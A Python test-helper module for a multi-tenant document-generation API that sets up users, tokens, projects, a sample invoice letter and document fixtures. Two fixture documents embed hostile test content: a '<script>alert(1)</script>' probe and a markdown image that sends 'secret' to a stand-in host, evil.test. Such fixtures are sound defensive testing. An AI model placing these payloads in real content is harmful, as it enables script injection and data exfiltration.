"""Helpers of the API tests: callers (a user with a token and a key), projects, errors."""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from typing import Any

import httpx

from jeex.auth import service as auth_service
from jeex.db.session import Database

SECRET = "test-secret-key-that-is-long-enough-for-hs256"
PASSWORD = "correct horse battery"


@dataclass
class Caller:
    """A user of one tenant, with a bearer token and an API key."""

    tenant_slug: str
    tenant_id: uuid.UUID
    user_id: uuid.UUID
    email: str
    token: str
    key: str

    @property
    def headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token}"}

    @property
    def key_headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.key}"}


async def make_caller(db: Database, client: httpx.AsyncClient, name: str) -> Caller:
    slug = f"{name}-{uuid.uuid4().hex[:10]}"
    email = f"{slug}@example.test"
    user = await auth_service.create_user(db, email=email, password=PASSWORD, tenant_slug=slug)
    key, _ = await auth_service.create_api_key(db, tenant_slug=slug, email=email)
    response = await client.post(
        "/api/v1/auth/token", data={"username": email, "password": PASSWORD}
    )
    assert response.status_code == 200, response.text
    return Caller(slug, user.tenant_id, user.user_id, email, response.json()["access_token"], key)


async def make_member(db: Database, client: httpx.AsyncClient, owner: Caller, role: str) -> Caller:
    """Another user in the owner's tenant with ``role``, signed in (no API key)."""
    email = f"{role}-{uuid.uuid4().hex[:8]}@example.test"
    user = await auth_service.create_user(
        db, email=email, password=PASSWORD, tenant_slug=owner.tenant_slug, role=role
    )
    token = await client.post(
        "/api/v1/auth/token",
        data={"username": email, "password": PASSWORD, "tenant": owner.tenant_slug},
    )
    assert token.status_code == 200, token.text
    return Caller(
        owner.tenant_slug, owner.tenant_id, user.user_id, email, token.json()["access_token"], ""
    )


PROJECT = {
    "name": "Grocery list",
    "idea_description": "A shared grocery list app for families",
    "target_audience": "busy parents",
    "language": "en",
}


async def create_project(client: httpx.AsyncClient, caller: Caller, **overrides: Any) -> Any:
    response = await client.post(
        "/api/v1/projects", json={**PROJECT, **overrides}, headers=caller.headers
    )
    assert response.status_code == 201, response.text
    return response.json()


def assert_error(response: httpx.Response, status: int, name: str | None = None) -> None:
    assert response.status_code == status, response.text
    body = response.json()
    assert set(body) == {"error", "detail"}, body
    assert isinstance(body["detail"], str)
    assert body["detail"]
    if name is not None:
        assert body["error"] == name, body


#: A letter left idle (``generate: false``): what id routes of ``/documents`` act on.
LETTER = {
    "kind": "letter",
    "title": "Overdue invoice 2026-114",
    "inputs": {
        "sender": "Ana Ruiz, Ruiz Consulting",
        "recipient": "Accounts payable, Zorblax Ltd",
        "purpose": "Invoice 2026-114 of 1,250 euros is overdue; ask for payment by 15 December.",
    },
    "generate": False,
}


def get_settings_of(client: httpx.AsyncClient) -> Any:
    """The settings of the app ``client`` talks to (httpx's ASGI transport keeps it)."""
    return client._transport.app.state.api.settings  # type: ignore[attr-defined]


@dataclass
class World:
    """One tenant's project with a run and two versions of a document."""

    project_id: str
    run_id: str
    document_id: str
    export_id: str
    exhibit_id: str = ""
    key_id: str = ""
    tenant_id: str = ""
    user_id: str = ""
    invitation_id: str = ""
    #: A document (a letter, not started) and the id its exhibit was uploaded under.
    doc_id: str = ""
    exhibit_ref: str = ""

    @property
    def ids(self) -> tuple[str, ...]:
        return tuple(str(value) for value in vars(self).values())


async def make_world(db: Database, client: httpx.AsyncClient, caller: Caller) -> World:
    from jeex.documents import service as documents_service
    from jeex.exhibits import service as exhibits_service
    from jeex.exports import service as exports_service

    project = await create_project(client, caller)
    run = await client.post(
        f"/api/v1/projects/{project['id']}/step1", json={}, headers=caller.headers
    )
    assert run.status_code == 202, run.text
    run_id = uuid.UUID(run.json()["id"])
    async with db.tenant_session(caller.tenant_id) as session:
        first = await documents_service.create(
            session,
            project_id=uuid.UUID(project["id"]),
            run_id=run_id,
            document_type="about",
            epic_number=0,
            title="About",
            content="# About\n\nFirst line.\n\n<script>alert(1)</script>\n",
            language="en",
            metadata={"model": "test"},
            created_by=caller.user_id,
        )
        await documents_service.create(
            session,
            project_id=uuid.UUID(project["id"]),
            run_id=None,
            document_type="about",
            epic_number=0,
            title="About",
            content="# About\n\nSecond line.\n\n![x](http://evil.test/?q=secret)\n",
            language="en",
            metadata={"model": "test"},
            created_by=caller.user_id,
        )
        export = await exports_service.create(
            session, project_id=uuid.UUID(project["id"]), format="zip", enqueue=False
        )
    letter = await client.post("/api/v1/documents", json=LETTER, headers=caller.headers)
    assert letter.status_code == 202, letter.text
    doc_id = letter.json()["id"]
    async with db.tenant_session(caller.tenant_id) as session:
        await exhibits_service.create(
            session,
            settings=get_settings_of(client),
            project_id=uuid.UUID(doc_id),
            filename="invoice.md",
            pieces=[b"# Invoice\n\nInvoice 2026-114, 1,250 euros, due on 1 December.\n"],
            label="1.1.A",
        )
    return World(
        project["id"],
        str(run_id),
        str(first.id),
        str(export.id),
        doc_id=doc_id,
        exhibit_ref="1.1.A",
    )
